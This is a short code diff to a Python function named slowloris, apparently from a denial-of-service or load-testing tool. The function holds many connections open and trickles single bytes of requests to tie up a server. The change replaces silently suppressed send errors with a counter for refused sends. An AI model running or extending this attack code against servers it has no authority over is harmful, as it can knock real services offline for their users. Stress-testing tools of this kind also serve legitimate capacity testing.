@@ -113,9 +113,11 @@ def slowloris(attack: Attack) -> None:
     while attack.goes_on(TRICKLE_PAUSE):
         for index, connection in enumerate(connections):
             text = request if index % 2 else large
-            with contextlib.suppress(OSError):
+            try:
                 connection.sendall(text[position % len(text) :][:1])
                 attack.note("bytes")
+            except OSError:
+                attack.note("sends refused")
         position += 1
 
 
